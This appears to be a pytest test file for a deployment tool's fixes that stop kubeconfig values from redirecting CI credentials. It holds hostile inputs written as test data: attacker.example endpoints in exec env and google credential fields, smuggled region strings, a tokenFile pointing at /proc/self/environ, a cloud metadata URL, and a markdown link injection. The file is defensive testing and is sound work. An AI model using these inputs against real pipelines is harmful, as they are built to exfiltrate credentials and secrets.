"""Issue 17.2-17.4: values from a kubeconfig never choose where a credential is sent.

A kubeconfig is untrusted text (a pull request can change a ``KUBECONFIG`` file in
the workspace). Its exec entry's ``env`` and ``args``, its file keys and its TLS
flag were each a way to get the job's credentials out; every test here failed
before the fix. The endpoints come from the job's environment only, https only
(plain http to a loopback address, for the tests' stand-ins).
"""

from __future__ import annotations

import http.server
import io
import json
import os
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from deployer.actions import ActionsIO
from deployer.cloud import gcp
from deployer.cloud.aws import is_region
from deployer.cloud.http import Answer, checked_url, send
from deployer.cloud.plugins import recognise, token_source
from deployer.config import Config, load_config
from deployer.errors import ClusterError, ConfigError, CredentialsError
from tests.unit.test_cloud_auth import KEY_ID, OIDC, OIDC_URL, SECRET, FakeHttp, sts_answer

ATTACKER = "https://attacker.example/"
ROLE = "arn:aws:iam::123456789012:role/gha"


def kubeconfig(user: dict[str, Any], cluster: dict[str, Any] | None = None) -> str:
    return yaml.safe_dump(
        {
            "apiVersion": "v1",
            "clusters": [{"name": "c", "cluster": cluster or {"server": "https://127.0.0.1:6443"}}],
            "users": [{"name": "u", "user": user}],
            "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}],
            "current-context": "x",
        }
    )


def job(workspace: Path, **env: str) -> Config:
    return load_config(
        {
            "INPUT_IMAGE": "ghcr.io/a/b",
            "INPUT_BUILD": "false",
            "GITHUB_WORKSPACE": str(workspace),
            **env,
        }
    )


def eks_exec(*extra: str, env: list[dict[str, str]] | None = None) -> dict[str, Any]:
    entry: dict[str, Any] = {
        "command": "aws",
        "args": ["--region", "eu-west-1", "eks", "get-token", "--cluster-name", "prod", *extra],
    }
    if env is not None:
        entry["env"] = env
    return entry


def hosts(http: FakeHttp) -> list[str]:
    return [re.sub(r"^(https?://[^/?]+).*", r"\1", url) for _, url, _, _ in http.requests]


# -- 17.2: exec env and args ------------------------------------------------------------------


def test_an_exec_env_cannot_send_the_oidc_request_token_elsewhere(tmp_path: Path) -> None:
    """exec env ACTIONS_ID_TOKEN_REQUEST_URL=https://attacker/… with aws-role-arn (was: the
    runner's request token, which mints tokens for any audience, sent to the attacker)."""
    entry = eks_exec(env=[{"name": "ACTIONS_ID_TOKEN_REQUEST_URL", "value": ATTACKER + "x?"}])
    http = FakeHttp(
        {
            ATTACKER: Answer(200, b'{"value": "stolen"}'),
            OIDC_URL: Answer(200, b'{"value": "github-oidc-jwt"}'),
            "https://sts.eu-west-1.amazonaws.com/": sts_answer(),
        }
    )
    config = job(tmp_path, **OIDC, **{"INPUT_AWS-ROLE-ARN": ROLE})
    token_source(recognise(entry), config, lambda _s: None, http=http).token()
    assert hosts(http) == ["https://oidc.test", "https://sts.eu-west-1.amazonaws.com"]
    assert http.requests[0][2]["Authorization"] == "Bearer req-token-1"


@pytest.mark.parametrize(
    "region", ["x@attacker.example/", "attacker.example#", "eu-west-1\n", "-eu", "a" * 64, "12"]
)
def test_a_region_from_the_kubeconfig_cannot_choose_the_sts_host(
    tmp_path: Path, region: str
) -> None:
    """exec args --region x@attacker/ (was: the job's web-identity JWT posted to
    https://sts.x@attacker/.amazonaws.com/, i.e. to the attacker's host)."""
    user = {"exec": {**eks_exec(), "args": ["--region", region, "eks", "get-token",
                                            "--cluster-name", "prod"]}}  # fmt: skip
    with pytest.raises(ConfigError) as caught:
        job(tmp_path, INPUT_KUBECONFIG=kubeconfig(user))
    assert "--region is not a region name such as eu-west-1" in caught.value.problems[0].problem
    env_user = {"exec": eks_exec(env=[{"name": "AWS_REGION", "value": region}])}
    env_user["exec"]["args"] = ["eks", "get-token", "--cluster-name", "prod"]
    with pytest.raises(ConfigError, match="exec env AWS_REGION that is not a region name"):
        job(tmp_path, INPUT_KUBECONFIG=kubeconfig(env_user))


def test_the_jobs_region_is_checked_too(tmp_path: Path) -> None:
    user = {"exec": {"command": "aws", "args": ["eks", "get-token", "--cluster-name", "p"]}}
    config = job(
        tmp_path, AWS_REGION="x@y/", AWS_ACCESS_KEY_ID=KEY_ID, AWS_SECRET_ACCESS_KEY=SECRET
    )
    with pytest.raises(CredentialsError, match="AWS region from AWS_REGION is not a region"):
        token_source(recognise(user["exec"]), config, lambda _s: None, http=FakeHttp({})).token()


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="ab-01.@/:\n#Z", max_size=70))
def test_the_region_rule_is_botocores(region: str) -> None:
    """The pattern is copied from botocore.utils.validate_region_name (not a runtime
    dependency); it must accept and refuse exactly what botocore does."""
    from botocore.exceptions import InvalidRegionError
    from botocore.utils import validate_region_name

    try:
        validate_region_name(region)
        botocore_accepts = bool(region)
    except InvalidRegionError:
        botocore_accepts = False
    # botocore matches with "$", which also takes a trailing newline; we never do.
    assert is_region(region) == (botocore_accepts and not region.endswith("\n"))


def test_an_exec_env_cannot_send_the_azure_secret_in_clear_text(tmp_path: Path) -> None:
    """exec env AZURE_AUTHORITY_HOST=http://attacker/ (was: AZURE_CLIENT_SECRET posted
    there over plain http)."""
    entry = {
        "command": "kubelogin",
        "args": ["get-token", "--login", "spn", "--server-id", "srv", "--tenant-id", "tid"],
        "env": [{"name": "AZURE_AUTHORITY_HOST", "value": "http://attacker.example/"}],
    }
    http = FakeHttp(
        {
            "http://attacker.example/": Answer(200, b'{"access_token": "x"}'),
            "https://login.microsoftonline.com/": Answer(200, b'{"access_token": "aad"}'),
        }
    )
    config = job(tmp_path, AZURE_CLIENT_ID="cid", AZURE_CLIENT_SECRET="azure-secret-1")
    assert token_source(recognise(entry), config, lambda _s: None, http=http).token() == "aad"
    assert hosts(http) == ["https://login.microsoftonline.com"]


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("AZURE_AUTHORITY_HOST", "http://login.example/"),
        ("ACTIONS_ID_TOKEN_REQUEST_URL", "http://token.actions.example/x?a=1"),
        ("AWS_ENDPOINT_URL_STS", "http://sts.example"),
        ("AWS_ENDPOINT_URL", "ftp://sts.example"),
        ("AWS_ENDPOINT_URL_STS", "https://user:pw@sts.example"),
    ],
)
def test_endpoints_of_the_job_are_https_only(variable: str, value: str) -> None:
    with pytest.raises(CredentialsError, match=variable):
        checked_url(value, variable)


@pytest.mark.parametrize(
    "url",
    ["https://login.example/", "http://127.0.0.1:8080/x", "http://[::1]:1/", "http://localhost/"],
)
def test_https_and_loopback_http_are_accepted(url: str) -> None:
    assert checked_url(url, "X") == url


def test_a_name_that_only_starts_like_loopback_is_not_loopback() -> None:
    with pytest.raises(CredentialsError, match="plain http"):
        checked_url("http://127.0.0.1.attacker.example/", "X")


def test_google_credentials_named_by_an_exec_env_are_ignored(tmp_path: Path) -> None:
    """exec env GOOGLE_APPLICATION_CREDENTIALS naming a file of the pull request (was: used)."""
    (tmp_path / "evil.json").write_text(json.dumps({"type": "service_account"}))
    entry = {
        "command": "gke-gcloud-auth-plugin",
        "env": [{"name": "GOOGLE_APPLICATION_CREDENTIALS", "value": str(tmp_path / "evil.json")}],
    }
    plugin = recognise(entry)
    assert plugin.ignored_env == ("GOOGLE_APPLICATION_CREDENTIALS",)
    with pytest.raises(CredentialsError, match="GOOGLE_APPLICATION_CREDENTIALS is not set"):
        token_source(plugin, job(tmp_path), lambda _s: None).token()


def test_ignored_exec_env_names_are_a_warning_without_their_values(tmp_path: Path) -> None:
    from deployer.cluster import connect

    entry = eks_exec(
        env=[
            {"name": "AZURE_AUTHORITY_HOST", "value": "http://value-never-shown/"},
            {"name": "AWS_STS_REGIONAL_ENDPOINTS", "value": "regional"},  # eksctl's: quiet
            {"name": "AWS_DEFAULT_REGION", "value": "eu-west-1"},  # kept
        ]
    )
    config = job(
        tmp_path,
        INPUT_KUBECONFIG=kubeconfig({"exec": entry}),
        AWS_ACCESS_KEY_ID=KEY_ID,
        AWS_SECRET_ACCESS_KEY=SECRET,
    )
    out = io.StringIO()
    connect(config, ActionsIO(out, {}))
    [warning] = [line for line in out.getvalue().splitlines() if line.startswith("::warning")]
    assert "title=Kubeconfig exec env ignored::" in warning
    assert "sets AZURE_AUTHORITY_HOST in its env: ignored" in warning
    assert "value-never-shown" not in out.getvalue()


# -- 17.2: google-auth's URLs --------------------------------------------------------------------


def external_account(**fields: Any) -> dict[str, Any]:
    info: dict[str, Any] = {
        "type": "external_account",
        "audience": "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/g",
        "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": "https://sts.googleapis.com/v1/token",
        "credential_source": {
            "url": OIDC_URL + "&audience=x",
            "headers": {"Authorization": "Bearer req-token-1"},
            "format": {"type": "json", "subject_token_field_name": "value"},
        },
    }
    info.update(fields)
    return info


@pytest.mark.parametrize(
    ("field", "info"),
    [
        ("token_url", external_account(token_url="https://attacker.example/token")),
        (
            "service_account_impersonation_url",
            external_account(service_account_impersonation_url=ATTACKER + "sa:generate"),
        ),
        (
            "credential_source.url",
            external_account(
                credential_source={
                    "url": "http://169.254.169.254/metadata/identity/oauth2/token",
                    "headers": {"Metadata": "true"},
                }
            ),
        ),
        ("token_uri", {"type": "service_account", "token_uri": "https://attacker.example/t"}),
        ("token_uri", {"type": "authorized_user", "token_uri": "http://oauth2.googleapis.com/t"}),
    ],
)
def test_google_credentials_cannot_send_a_token_elsewhere(
    tmp_path: Path, field: str, info: dict[str, Any]
) -> None:
    """google-auth does not check the URLs of a credentials file; we do, before it runs."""
    (tmp_path / "gha-creds-1.json").write_text(json.dumps(info))
    env = {"GOOGLE_APPLICATION_CREDENTIALS": str(tmp_path / "gha-creds-1.json"), **OIDC}

    class NoNetwork:
        def request(self, *_args: Any, **_kwargs: Any) -> Any:
            raise AssertionError("google-auth was called")

    with pytest.raises(CredentialsError, match=re.escape(field)):
        gcp.access_token(env, tmp_path, lambda _s: None, session=NoNetwork())


def test_the_files_google_github_actions_auth_writes_pass() -> None:
    gcp.check_endpoints(external_account(), OIDC)  # the job's own OIDC endpoint
    gcp.check_endpoints(
        external_account(
            service_account_impersonation_url="https://iamcredentials.googleapis.com/v1/projects/"
            "-/serviceAccounts/d@p.iam.gserviceaccount.com:generateAccessToken"
        ),
        OIDC,
    )
    gcp.check_endpoints({"type": "service_account", "token_uri": gcp_token_uri()}, {})
    with pytest.raises(CredentialsError, match="nor the job's OIDC endpoint"):
        gcp.check_endpoints(external_account(), {})  # no OIDC endpoint in this job


def gcp_token_uri() -> str:
    return "https://oauth2.googleapis.com/token"


# -- 17.2: no redirect with credentials --------------------------------------------------------


@pytest.fixture
def redirect_to_recorder() -> Iterator[tuple[str, list[dict[str, str]]]]:
    """A server answering with the redirect its path asks for (``/302``) to a second
    server that records what reaches it."""
    seen: list[dict[str, str]] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(dict(self.headers))
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_args: Any) -> None:
            pass

    recorder = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    target = f"http://127.0.0.1:{recorder.server_address[1]}/stolen"

    class Redirect(Recorder):
        def do_GET(self) -> None:
            self.send_response(int(self.path.strip("/")))
            self.send_header("Location", target)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET

    redirect = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Redirect)
    for server in (recorder, redirect):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{redirect.server_address[1]}", seen
    finally:
        for server in (recorder, redirect):
            server.shutdown()
            server.server_close()


@pytest.mark.parametrize(
    ("method", "status"), [("GET", 302), ("GET", 307), ("GET", 301), ("POST", 303)]
)
def test_a_redirect_is_an_answer_never_followed_with_the_credentials(
    redirect_to_recorder: tuple[str, list[dict[str, str]]], method: str, status: int
) -> None:
    """urllib forwards the Authorization header to wherever a redirect points (the OIDC
    request token is sent with a GET)."""
    base, seen = redirect_to_recorder
    body = b"secret=1" if method == "POST" else None
    answer = send(method, f"{base}/{status}", {"Authorization": "Bearer request-token"}, body)
    assert answer.status == status
    assert seen == []


# -- 17.3: file keys of a KUBECONFIG file --------------------------------------------------------


def kubeconfig_file(tmp_path: Path, user: dict[str, Any], **cluster: Any) -> Config:
    workspace = tmp_path / "ws"
    workspace.mkdir(exist_ok=True)
    path = workspace / "kubeconfig"
    path.write_text(kubeconfig(user, {"server": "https://127.0.0.1:6443", **cluster}))
    return job(workspace, KUBECONFIG=str(path), RUNNER_TEMP=str(tmp_path / "runner-temp"))


@pytest.mark.parametrize(
    ("where", "key"),
    [
        ("user", "tokenFile"),
        ("user", "client-key"),
        ("user", "client-certificate"),
        ("cluster", "certificate-authority"),
    ],
)
def test_a_kubeconfig_file_cannot_name_a_file_outside_the_workspace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, key: str
) -> None:
    """``tokenFile: /proc/self/environ`` (was: our environment sent as the bearer token)."""
    from deployer.cluster import connect

    monkeypatch.setenv("DEPLOYER_TEST_ENVIRON_MARKER", "environ-marker-0123")
    user: dict[str, Any] = {} if where == "cluster" else {key: "/proc/self/environ"}
    cluster = {key: "/proc/self/environ"} if where == "cluster" else {}
    if where == "cluster":
        user = {"token": "tok-123456"}
    with pytest.raises(ClusterError) as caught:
        connect(kubeconfig_file(tmp_path, user, **cluster))
    assert f"{where} '{'u' if where == 'user' else 'c'}' {key}" in caught.value.message
    assert "leads outside the workspace and the runner's temporary directory" in (
        caught.value.message
    )


def test_key_files_in_the_workspace_or_runner_temp_are_read_and_masked(tmp_path: Path) -> None:
    from deployer.cluster import connect

    config = kubeconfig_file(tmp_path, {"tokenFile": "../runner-temp/token"})
    (tmp_path / "runner-temp").mkdir()
    (tmp_path / "runner-temp" / "token").write_text("runner-temp-token-1\n")
    out = io.StringIO()
    api, _ = connect(config, ActionsIO(out, {}))
    assert api.configuration.get_api_key_with_prefix("BearerToken") == "Bearer runner-temp-token-1"
    assert "::add-mask::runner-temp-token-1" in out.getvalue().splitlines()


def test_key_files_must_be_regular_and_small(tmp_path: Path) -> None:
    from deployer.cluster import connect

    config = kubeconfig_file(tmp_path, {"tokenFile": "pipe"})
    os.mkfifo(config.workspace / "pipe")
    with pytest.raises(ClusterError, match="not a regular file"):
        connect(config)  # opened without blocking: never a hang
    (config.workspace / "big").write_bytes(b"x" * (1024 * 1024 + 1))
    with pytest.raises(ClusterError, match="larger than 1 MiB"):
        connect(kubeconfig_file(tmp_path, {"tokenFile": "big"}))


# -- 17.4: insecure-skip-tls-verify --------------------------------------------------------------


@pytest.mark.parametrize("value", ["false", "no", 1, 0, "true"])
def test_a_tls_flag_that_is_not_a_boolean_is_refused(tmp_path: Path, value: Any) -> None:
    """``insecure-skip-tls-verify: "false"`` (was: verification off, without a word)."""
    from deployer.cluster import connect

    cluster = {"server": "https://127.0.0.1:6443", "insecure-skip-tls-verify": value}
    with pytest.raises(ConfigError) as caught:
        job(tmp_path, INPUT_KUBECONFIG=kubeconfig({"token": "tok-123456"}, cluster))
    assert "insecure-skip-tls-verify that is not a YAML boolean" in caught.value.problems[0].problem
    with pytest.raises(ClusterError, match="not a YAML boolean"):
        connect(
            kubeconfig_file(
                tmp_path, {"token": "tok-123456"}, **{"insecure-skip-tls-verify": value}
            )
        )


def test_the_cluster_name_in_the_summary_warning_is_inert(tmp_path: Path) -> None:
    """Issue 17.6: the kubeconfig's cluster name went into the summary raw."""
    from markdown_it import MarkdownIt

    from deployer.cluster import connect

    link = "[Approve the deploy](https://evil.example/approve)"
    text = (
        kubeconfig(
            {"token": "tok-123456"},
            {"server": "https://127.0.0.1:6443", "insecure-skip-tls-verify": True},
        )
        .replace("name: c\n", f"name: '{link}'\n")
        .replace("cluster: c\n", f"cluster: '{link}'\n")
    )
    summary = tmp_path / "summary"
    summary.write_text("")
    connect(
        job(tmp_path, INPUT_KUBECONFIG=text),
        ActionsIO(io.StringIO(), {"GITHUB_STEP_SUMMARY": str(summary)}),
    )
    html = MarkdownIt("gfm-like").render(summary.read_text())
    assert "evil.example" in html and "<a " not in html, html


# -- regression guard for the first round: nothing a kubeconfig names runs ---------------------


@pytest.mark.parametrize("form", ["input", "KUBECONFIG"])
def test_a_workspace_script_named_aws_is_recognised_and_never_run(
    tmp_path: Path, form: str
) -> None:
    """The matcher recognises plugins by file name only: ``command: <workspace>/tools/aws``
    is served in-process. Were the exec entry handed to the client library, it would run."""
    from deployer.cluster import connect

    marker = tmp_path / "ran"
    script = tmp_path / "tools" / "aws"
    script.parent.mkdir()
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    user = {
        "exec": {
            **eks_exec(),
            "command": str(script),
            "apiVersion": "client.authentication.k8s.io/v1beta1",
        }
    }
    text = kubeconfig(user)
    if form == "input":
        config = job(tmp_path, INPUT_KUBECONFIG=text)
    else:
        (tmp_path / "kubeconfig").write_text(text)
        config = job(tmp_path, KUBECONFIG=str(tmp_path / "kubeconfig"))
    with pytest.raises(CredentialsError, match="No AWS credentials"):
        connect(config)
    assert not marker.exists()
